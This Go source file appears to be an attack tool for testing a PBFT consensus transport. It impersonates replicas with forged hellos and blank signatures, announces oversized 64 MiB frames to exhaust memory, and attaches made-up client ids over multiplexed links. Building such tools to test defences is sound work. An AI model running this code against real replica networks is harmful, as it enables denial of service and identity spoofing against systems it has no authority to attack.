package main

import (
	"bufio"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/bftbank/pbft/crypto"
)

// The transport's hello and proofs, written by hand (pbft/transport/hello.go, keys.go).
const (
	roleReplica, roleClient, roleMux = 1, 2, 3
	linkDomain                       = "pbft/link/v2\x00"
	nonceSize                        = 32
)

func helloBytes(version int, role byte, body []byte, nonce []byte) []byte {
	b := append([]byte("PBFT"), byte(version), role)
	b = append(b, body...)
	if version >= 2 {
		b = append(b, nonce...)
	}
	return b
}

func replicaBody(from, to int) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(from))
	return binary.BigEndian.AppendUint32(b, uint32(to))
}

func clientBody(id string) []byte {
	return append(binary.BigEndian.AppendUint16(nil, uint16(len(id))), id...)
}

func newNonce() []byte {
	n := make([]byte, nonceSize)
	rand.Read(n)
	return n
}

// transcript is what a client proof signs (transport.transcript).
func transcript(label byte, acceptor int, client string, dial, accept []byte) []byte {
	b := append([]byte(linkDomain), label)
	b = binary.BigEndian.AppendUint32(b, uint32(acceptor))
	b = binary.BigEndian.AppendUint32(b, 0)
	b = append(b, clientBody(client)...)
	b = append(b, dial...)
	return append(b, accept...)
}

func frame(payload []byte) []byte {
	return append(binary.BigEndian.AppendUint32(nil, uint32(len(payload))), payload...)
}

// forge connects to replica j as replica i for every pair i < j, round robin, at o.rate
// connections per second, each on its own goroutine until the replica drops it.
func forge(o options) error {
	var opened, challenged atomic.Uint64
	tick := time.NewTicker(time.Duration(float64(time.Second) / o.rate))
	defer tick.Stop()
	end := time.After(o.duration)
	report := time.NewTicker(5 * time.Second)
	defer report.Stop()
	for k := 0; ; k++ {
		select {
		case <-end:
			fmt.Printf("forge: %d connections, %d challenges\n", opened.Load(), challenged.Load())
			return nil
		case <-report.C:
			fmt.Printf("forge: %d connections, %d challenges\n", opened.Load(), challenged.Load())
		case <-tick.C:
			i, j := pair(k, len(o.addrs))
			opened.Add(1)
			go forgeOne(o, i, j, &challenged)
		}
	}
}

// pair is the k-th pair (i, j), 1 <= i < j <= n, round robin.
func pair(k, n int) (int, int) {
	k %= n * (n - 1) / 2
	for i := 1; i < n; i++ {
		if k < n-i {
			return i, i + 1 + k
		}
		k -= n - i
	}
	return 1, 2
}

func forgeOne(o options, i, j int, challenged *atomic.Uint64) {
	c, err := net.DialTimeout("tcp", o.addrs[j-1], time.Second)
	if err != nil {
		return
	}
	defer c.Close()
	c.Write(helloBytes(o.version, roleReplica, replicaBody(i, j), newNonce()))
	if o.version >= 2 {
		challenge := make([]byte, nonceSize+crypto.SignatureSize)
		if _, err := io.ReadFull(c, challenge); err == nil {
			challenged.Add(1)
			c.Write(make([]byte, crypto.SignatureSize)) // a signature it cannot make
		}
	}
	io.Copy(io.Discard, c) // hold until dropped
}

// dialClient opens a connection saying hello as client id (role 2 or 3) and, with a key,
// proves it (role 2); it returns the connection and the replica's nonce.
func dialClient(o options, addr string, role byte, id string, replica int) (net.Conn, []byte, []byte, error) {
	c, err := net.DialTimeout("tcp", addr, time.Second)
	if err != nil {
		return nil, nil, nil, err
	}
	dial := newNonce()
	if _, err := c.Write(helloBytes(o.version, role, clientBody(id), dial)); err != nil {
		return nil, nil, nil, err
	}
	if o.version < 2 {
		return c, nil, nil, nil
	}
	accept := make([]byte, nonceSize)
	if _, err := io.ReadFull(c, accept); err != nil {
		return nil, nil, nil, err
	}
	if role == roleClient && o.key != nil {
		c.Write(o.key.Sign(transcript('C', replica, id, dial, accept)))
	}
	return c, dial, accept, nil
}

// bigFrames announces a 64 MiB frame on o.conns connections to the first replica, sends
// o.sendMiB of it and holds.
func bigFrames(o options) error {
	var wg sync.WaitGroup
	var sent atomic.Int64
	for k := range o.conns {
		id := o.client // proven when the attacker holds its key
		if id == "" {
			id = string(rune('A' + k%26)) // distinct, so that none replaces another
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, _, _, err := dialClient(o, o.addrs[0], roleClient, id, 1)
			if err != nil {
				fmt.Println("bigframe:", err)
				return
			}
			defer c.Close()
			c.Write(binary.BigEndian.AppendUint32(nil, 64<<20))
			chunk := make([]byte, 1<<20)
			for range o.sendMiB {
				if _, err := c.Write(chunk); err != nil {
					break
				}
				sent.Add(int64(len(chunk)))
			}
			c.SetReadDeadline(time.Now().Add(o.duration))
			io.Copy(io.Discard, c)
		}()
	}
	wg.Wait()
	fmt.Printf("bigframe: %d MiB written in all\n", sent.Load()>>20)
	return nil
}

// madeUpIDs attaches o.ids made-up client ids over one multiplexed connection to every
// replica, after proving o.client's key when it has one.
func madeUpIDs(o options) error {
	errs := make(chan error, len(o.addrs))
	for i, addr := range o.addrs {
		go func() { errs <- madeUpIDsAt(o, addr, i+1) }()
	}
	for range o.addrs {
		if err := <-errs; err != nil {
			return err
		}
	}
	return nil
}

func madeUpIDsAt(o options, addr string, replica int) error {
	c, dial, accept, err := dialClient(o, addr, roleMux, "attacker", replica)
	if err != nil {
		return err
	}
	defer c.Close()
	w := bufio.NewWriter(c)
	if o.key != nil && o.version >= 2 {
		sig := o.key.Sign(transcript('M', replica, o.client, dial, accept))
		w.Write(frame(muxAttach(o.client, append(append([]byte{}, accept[:8]...), sig...))))
	}
	for i := range o.ids {
		proof := []byte(nil)
		if o.version >= 2 {
			proof = make([]byte, 8+crypto.SignatureSize)
		}
		if _, err := w.Write(frame(muxAttach(fmt.Sprintf("fake-%d", i), proof))); err != nil {
			return err
		}
	}
	if err := w.Flush(); err != nil {
		return err
	}
	fmt.Printf("ids: %d made-up ids attached at %s\n", o.ids, addr)
	c.SetReadDeadline(time.Now().Add(o.duration))
	io.Copy(io.Discard, c)
	return nil
}

func muxAttach(id string, proof []byte) []byte {
	return append(append([]byte{1}, clientBody(id)...), proof...)
}
